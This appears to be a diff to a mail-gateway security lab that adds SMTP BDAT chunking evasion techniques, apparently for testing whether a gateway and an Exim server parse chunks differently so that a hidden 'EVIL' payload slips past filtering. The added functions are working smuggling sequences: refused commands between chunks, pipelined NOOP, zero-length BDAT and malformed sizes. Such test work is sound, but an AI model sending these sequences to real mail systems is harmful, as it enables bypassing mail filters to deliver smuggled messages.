@@ -11,6 +11,7 @@ from collections.abc import Callable
 
 from nfmailguard.lab.evasions.technique import EVIL, Attack, Table
 from nfmailguard.lab.permissive import Personality
+from nfmailguard.lab.rawtcp import RawTcp
 
 __all__ = ["EXTENSIONS"]
 
@@ -183,3 +184,75 @@ def bdat_urgent(attack: Attack) -> None:
     connection.put(b"DAT 12\r\nx" + EVIL, start + 1, 0x38, urgptr=6)
     attack.wait(0.02)
     connection.put(b"B", start)
+
+
+def in_chunks(attack: Attack) -> RawTcp:
+    connection = attack.session(b"EHLO")
+    for line in (b"MAIL FROM:<a@example.net>\r\n", b"RCPT TO:<b@example.com>\r\n", b"BDAT 5\r\nhello"):
+        connection.say(line)
+    return connection
+
+
+GIVES_UP = Personality(chunking="strict", gives_up=True)
+
+for _name, _between in (
+    ("zero", b"BDAT 0\r\n"),
+    ("verb", b"HELP\r\n"),
+    ("blank", b"\r\n"),
+    ("mail", b"MAIL FROM:<c@example.net>\r\n"),
+):
+
+    def given_up(attack: Attack, between: bytes = _between) -> None:
+        connection = in_chunks(attack)
+        connection.say(between)
+        chunk = b"RSET\r\n" + EVIL
+        connection.put(b"BDAT %d LAST\r\n" % len(chunk) + chunk)
+        connection.read()
+
+    technique(
+        f"bdat-given-up-{_name}",
+        "a command refused between chunks: then the server takes nothing but RSET, and no chunk for one (Exim 4.96)",
+        options=OPEN,
+        server=GIVES_UP,
+    )(given_up)
+
+
+@technique(
+    "bdat-given-up-pipelined",
+    "NOOP between chunks, refused where more is there to be read: each in a segment of its own, none waited for",
+    options=OPEN,
+    server=GIVES_UP,
+)
+def bdat_given_up_pipelined(attack: Attack) -> None:
+    connection = in_chunks(attack)
+    chunk = b"RSET\r\n" + EVIL
+    for octets in (b"NOOP\r\n", b"BDAT %d LAST\r\n" % len(chunk) + chunk):
+        connection.put(octets)
+    connection.read()
+
+
+@technique(
+    "bdat-given-up-together",
+    "chunk, BDAT of nothing and the next chunk in one segment",
+    options=OPEN,
+    server=GIVES_UP,
+)
+def bdat_given_up_together(attack: Attack) -> None:
+    connection = in_chunks(attack)
+    chunk = b"RSET\r\n" + EVIL
+    connection.put(b"BDAT 1\r\nxBDAT 0\r\nBDAT %d LAST\r\n" % len(chunk) + chunk)
+    connection.read()
+
+
+@technique(
+    "bdat-digits",
+    "digits and something behind: a size to a server that reads on from them (Exim: sscanf), none to the gateway",
+    options=OPEN,
+    server=Personality(chunking="loose"),
+)
+def bdat_digits(attack: Attack) -> None:
+    connection = attack.session(b"EHLO")
+    for line in (b"MAIL FROM:<a@example.net>\r\n", b"RCPT TO:<b@example.com>\r\n"):
+        connection.say(line)
+    connection.put(b"BDAT 10 FOO\r\nNOOP AAAAA" + EVIL)
+    connection.read()
